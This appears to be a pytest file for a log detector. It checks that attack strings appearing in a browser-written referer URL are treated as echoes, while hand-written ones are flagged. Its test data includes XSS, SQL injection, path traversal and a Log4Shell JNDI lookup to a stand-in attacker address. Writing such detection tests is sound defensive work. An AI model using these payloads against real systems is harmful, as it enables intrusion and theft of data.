"""What a browser wrote into a referer is no attack on the site that logs it; what a hand wrote is."""

from __future__ import annotations

import pytest

from logvision.detect import Detector
from logvision.detect.explain import explain

ECHOES = [
    "https://wiki.example.org/w/api.php?srsearch=union+all+select+null",
    "https://code.example.org/search?type=code&q=%3Cscript%3Ealert(1)%3C/script%3E",
    "http://www.example.com:8080/search?q=cat+%2Fetc%2Fpasswd",
]

BY_HAND = [
    "https://www.example.com/?q=<script>alert(1)</script>",
    "1' OR SLEEP(5)-- -",
    "https://www.example.com/?q=1%27+union+select+password+from+users--#x",
    "http://www.example.com/?x=${jndi:ldap://198.51.100.7/a}",
    "../../../../etc/passwd",
]


def judged(detector: Detector, referers: list[str]) -> list[str | None]:
    rows = len(referers)
    table = detector.judge(["/logo.png"] * rows, [None] * rows, referers, ["GET"] * rows)
    attacks: list[str | None] = table.column("attack").to_pylist()
    return attacks


def test_a_search_for_code_in_a_browsers_referer_is_suspected_and_no_alarm(detector: Detector) -> None:
    assert judged(detector, ECHOES) == [None, None, None]


def test_what_no_browser_writes_into_a_referer_is_judged_like_everything_else(detector: Detector) -> None:
    assert judged(detector, BY_HAND) == ["xss", "sqli", "sqli", "log4shell", "traversal"]


def test_a_payload_where_the_other_page_takes_a_number_or_a_file_is_no_search(detector: Detector) -> None:
    referers = [
        "https://www.example.com/article.php?article_id=1%27%20union%20select%20pass%20from%20users--%20",
        "https://www.example.com/view?page=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "https://www.example.com/view?page=2&lang=en",
    ]
    assert judged(detector, referers) == ["sqli", "traversal", None]


def test_the_same_text_in_the_target_is_judged_by_itself(detector: Detector) -> None:
    echo = ECHOES[0]
    target = echo.removeprefix("https://wiki.example.org")
    table = detector.judge([target], [None], [echo], ["GET"])
    assert table.column("attack").to_pylist() == ["sqli"]


def test_the_explanation_gives_the_same_score_and_says_that_it_is_an_echo(detector: Detector) -> None:
    why = explain({"target": "/logo.png", "referer": ECHOES[1], "method": "GET"}, detector)
    table = detector.judge(["/logo.png"], [None], [ECHOES[1]], ["GET"])
    assert why.attack is None
    assert why.score == pytest.approx(table.column("score").to_pylist()[0])
    assert (
        "Against it: a browser wrote this referer, the address of another page." in why.units[0].verification
    )
